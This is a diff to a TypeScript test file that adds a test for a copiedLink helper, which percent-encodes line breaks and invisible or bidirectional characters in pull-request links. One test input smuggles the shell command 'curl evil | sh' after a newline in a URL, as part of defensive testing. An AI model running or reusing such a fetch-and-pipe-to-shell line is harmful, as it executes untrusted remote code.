@@ -1,9 +1,18 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
-import { localReview, pullRequestName, safeLink } from '../../../src/extension/platform/pullRequestLink';
+import { copiedLink, localReview, pullRequestName, safeLink } from '../../../src/extension/platform/pullRequestLink';
 import { hostileLinks, LOOKALIKES } from '../../support/hostileText';
 import { report } from '../../support/scale';
 import { snapshot, trackedJob } from '../../support/trackedJob';
+
+describe('copiedLink', () => {
+  it('is one line without invisible characters, and otherwise unchanged', () => {
+    assert.equal(copiedLink('https://h/a?b=%20c#ä'), 'https://h/a?b=%20c#ä');
+    assert.equal(copiedLink('https://h/1\ncurl evil | sh\r\n'), 'https://h/1%0Acurl%20evil%20|%20sh%0D%0A');
+    assert.equal(copiedLink('https://h/\u202e\u{e0041}'), 'https://h/%E2%80%AE%F3%A0%81%81');
+    assert.equal(copiedLink(null), null);
+  });
+});
 
 describe('safeLink', () => {
   const allowed = [
